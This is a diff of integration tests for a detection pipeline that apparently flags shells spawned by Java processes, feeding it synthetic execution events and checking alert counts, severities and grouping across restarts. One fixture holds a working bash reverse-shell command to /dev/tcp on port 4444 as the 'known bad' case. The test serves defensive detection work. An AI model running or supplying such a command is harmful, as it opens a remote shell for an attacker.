@@ -21,11 +21,14 @@ from shellwatch.kafka_io import AlertReader, produce_documents
 from shellwatch.localkafka import create_topic
 from shellwatch.pipeline import Pipeline, PipelineConfig
 from shellwatch.rules.loader import load_reverse_shell_rule
+from shellwatch.rules.shell_rule import load_shell_rule
 from shellwatch.samples.ecs_factory import connection, execution
 from shellwatch.timestamps import parse_timestamp_ms
 from shellwatch.worker_process import WorkerProcess
 
 RULE = load_reverse_shell_rule()
+SHELL_RULE = load_shell_rule()
+SEQUENCE = "potential-reverse-shell-via-java"
 PARTITIONS = 3
 LIVE = (time.time_ns() // 1_000_000) - 60_000
 FUTURE = 4_070_908_800_000  # 2099-01-01
@@ -100,8 +103,8 @@ def deployment(kafka_bootstrap: str, tmp_path: Path) -> Iterator[Deployment]:
 
 
 def offline_alert_ids(docs: list[dict[str, Any]]) -> set[str]:
-    """What ``shellwatch detect`` raises for the same documents."""
-    pipeline = Pipeline(RULE, PipelineConfig())
+    """What ``shellwatch detect`` raises for the same documents (both rules)."""
+    pipeline = Pipeline(RULE, PipelineConfig(), SHELL_RULE)
     alerts = [a for doc in docs for a in pipeline.process(orjson.dumps(doc), 0).alerts] + pipeline.flush(0)
     return {a["event"]["id"] for a in alerts}
 
@@ -144,16 +147,17 @@ def test_exact_alerts_across_hosts_and_topics(deployment: Deployment) -> None:
     future = attack("host-2099", FUTURE, FUTURE + 800)  # a clock far in the future still alerts
     docs = [*noise("host-noise", base, 200), *hit_9, *exec_first, *private, *too_late, *future, *noise("n2", base, 50)]
     expected = offline_alert_ids(docs)
-    assert len(expected) == 3
+    assert len(expected) == 3 + 5  # three sequences; a known-bad shell alert on each of the five hosts
     deployment.start_worker()
     deployment.wait_ready()
     produced_at = time.time()
     deployment.produce(docs)
     alerts = deployment.alerts_for(len(expected))
     assert {a["event"]["id"] for a in alerts} == expected
-    hosts = {a["host"]["id"] for a in alerts}
-    assert hosts == {"host-x9", "host-exec-first", "host-2099"}
-    for alert in alerts:
+    assert len(alerts) == len(expected)  # no duplicates either
+    sequences = [a for a in alerts if a["rule"]["id"] == SEQUENCE]
+    assert {a["host"]["id"] for a in sequences} == {"host-x9", "host-exec-first", "host-2099"}
+    for alert in sequences:
         detected = alert["@timestamp"]
         assert alert["rule"]["id"] == "potential-reverse-shell-via-java"
         assert [e["event"]["id"] for e in alert["detection"]["events"]] == [
@@ -161,7 +165,7 @@ def test_exact_alerts_across_hosts_and_topics(deployment: Deployment) -> None:
             f"{alert['host']['id']}-shell",
         ]
         assert detected.endswith("Z")
-    future_alert = next(a for a in alerts if a["host"]["id"] == "host-2099")
+    future_alert = next(a for a in sequences if a["host"]["id"] == "host-2099")
     assert future_alert["detection"]["latency_ms"] < 0
     print(f"\nworker alert latency after produce: {max(_detected_s(a) for a in alerts) - produced_at:.2f}s")
 
@@ -173,10 +177,10 @@ def _detected_s(alert: dict[str, Any]) -> float:
 def test_a_topic_of_2022_data_is_detected_like_live_data(deployment: Deployment) -> None:
     docs = [*noise("old-noise", Y2022, 100), *attack("old-host", Y2022 + 10_000, Y2022 + 14_999)]
     expected = offline_alert_ids(docs)
-    assert len(expected) == 1
+    assert len(expected) == 2  # the sequence and the shell
     deployment.start_worker()
     deployment.produce(docs)
-    assert {a["event"]["id"] for a in deployment.alerts_for(1)} == expected
+    assert {a["event"]["id"] for a in deployment.alerts_for(len(expected))} == expected
 
 
 def committed(bootstrap: str, group: str, topic: str) -> int:
@@ -216,9 +220,10 @@ def test_restart_between_connection_and_exec_recovers_state(deployment: Deployme
     assert first.stop() == 0
     deployment.produce([shell])
     deployment.start_worker()
-    (alert,) = deployment.alerts_for(1)
+    alerts = deployment.alerts_for(2)
+    assert {a["event"]["id"] for a in alerts} == offline_alert_ids([conn, shell])
+    (alert,) = [a for a in alerts if a["rule"]["id"] == SEQUENCE]
     assert [e["event"]["id"] for e in alert["detection"]["events"]] == ["host-restart-conn", "host-restart-shell"]
-    assert alert["event"]["id"] in offline_alert_ids([conn, shell])
 
 
 def test_two_workers_split_the_partitions_and_raise_every_alert(deployment: Deployment) -> None:
@@ -226,7 +231,7 @@ def test_two_workers_split_the_partitions_and_raise_every_alert(deployment: Depl
     docs = [d for i, h in enumerate(hosts) for d in attack(h, LIVE + i * 10, LIVE + i * 10 + 700)]
     docs += noise("quiet", LIVE, 300)
     expected = offline_alert_ids(docs)
-    assert len(expected) == 12
+    assert len(expected) == 24
     deployment.start_worker()
     deployment.start_worker()
     deployment.wait_ready(members=2)
@@ -273,7 +278,56 @@ def test_one_mixed_topic_routed_by_event_category(kafka_bootstrap: str, tmp_path
     worker = WorkerProcess({**deployment.env(), "SHELLWATCH_MIXED_TOPIC": mixed}, tmp_path / "mixed.log").start()
     try:
         produce_documents(kafka_bootstrap, docs, network_topic=mixed, process_topic=mixed)
-        alerts = deployment.alerts_for(1)
+        alerts = deployment.alerts_for(2)
     finally:
         worker.stop()
     assert {a["event"]["id"] for a in alerts} == offline_alert_ids(docs)
+
+
+def shell_exec(host: str, at_ms: int, command: str, tag: str, **kwargs: Any) -> dict[str, Any]:
+    return execution(
+        ts_ms=at_ms,
+        host_id=host,
+        pid=5000,
+        parent_pid=4242,
+        event_id=f"{host}-{tag}",
+        args=["/bin/bash", "-c", command],
+        **kwargs,
+    )
+
+
+def test_one_alert_per_case_and_grouping_survives_a_restart(deployment: Deployment) -> None:
+    confluence = ["/opt/atlassian/confluence/jre/bin/java", "-classpath", "/opt/atlassian/confluence/bin/x.jar"]
+    cases = {
+        "java_shell_execution_known_bad": shell_exec("c1", LIVE, "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "kb"),
+        "confluence_server_spawned_shell_potential_rce": shell_exec(
+            "c2", LIVE, "ls /tmp", "cf", parent_executable=confluence[0], parent_args=confluence
+        ),
+        "java_shell_execution_unusual": shell_exec("c3", LIVE, "whoami", "un"),
+        "java_shell_execution_suspicious": shell_exec("c4", LIVE, "id", "su"),
+        "java_shell_execution": shell_exec("c5", LIVE, "echo ok", "lo"),
+    }
+    deployment.start_worker()
+    deployment.produce(list(cases.values()))
+    alerts = [a for a in deployment.alerts_for(len(cases)) if a["rule"]["id"] == "shell-spawned-by-java"]
+    assert {a["host"]["id"]: a["detection"]["case"] for a in alerts} == {
+        doc["host"]["id"]: case for case, doc in cases.items()
+    }
+    assert {a["detection"]["severity"] for a in alerts} == {"critical", "high", "medium", "low"}
+    # The same Java process running the same command again inside the hour is grouped, across a restart.
+    worker = deployment.workers[-1]
+    wait_for(
+        lambda: committed(deployment.bootstrap, deployment.app_id, f"{deployment.app_id}-relevant") >= 5,
+        60,
+        "the agent to commit the first execs",
+    )
+    assert worker.stop() == 0
+    deployment.produce([shell_exec("c4", LIVE + 60_000, "id", "su-again")])
+    deployment.start_worker()
+    deployment.produce([shell_exec("c4", LIVE + 3_600_000, "id", "su-next-hour")])
+    later = deployment.alerts_for(len(cases) + 1)
+    c4 = [a for a in later if a["host"]["id"] == "c4"]
+    assert [(a["detection"]["events"][0]["event"]["id"], a["detection"]["suppressed_count"]) for a in c4] == [
+        ("c4-su", 0),
+        ("c4-su-next-hour", 1),
+    ]
